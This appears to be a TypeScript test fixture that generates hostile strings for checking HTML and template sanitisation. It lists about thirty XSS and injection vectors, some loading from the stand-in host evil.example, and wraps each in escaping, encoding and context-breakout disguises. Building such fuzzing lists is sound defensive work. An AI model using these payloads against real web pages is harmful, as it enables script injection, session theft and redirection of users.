/** Texts that would run `canary()`, or reach out, in a page that takes them for more than text. */
const vectors = [
  "<script>canary()</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=canary()>",
  "<img src=//evil.example/pixel.gif>",
  "<svg onload=canary()>",
  "<svg><animate onbegin=canary() attributeName=x dur=1s>",
  "<svg><script>canary()</script></svg>",
  "<math><mi xlink:href=javascript:canary()>x</mi></math>",
  "<body onload=canary()>",
  "<details open ontoggle=canary()>x</details>",
  "<input autofocus onfocus=canary()>",
  "<video><source onerror=canary()></video>",
  "<iframe src=javascript:canary()></iframe>",
  "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
  "<object data=javascript:canary()></object>",
  "<embed src=javascript:canary()>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<form action=//evil.example/><button autofocus>go</button></form>",
  "<a href=javascript:canary()>click</a>",
  "<template><script>canary()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
  "javascript:canary()",
  "data:text/html,<script>canary()</script>",
  "${canary()}",
  "{{constructor.constructor('canary()')()}}",
  "__proto__",
  "constructor",
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<'`,
  (text) => `</td></tr></table></script></style></pre>${text}`,
  (text) => `-->]]>${text}<!--`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replace("<", "<\u0000").replace(" ", "\u000C"),
  (text) => `\u202E${text}\u202C`,
  (text) => `\n\nevent: event\ndata: ${text}\n\n`,
];

/** Every vector in every disguise, each once. */
export const hostileTexts: readonly string[] = [
  ...new Set(vectors.flatMap((vector) => disguises.map((disguise) => disguise(vector)))),
];
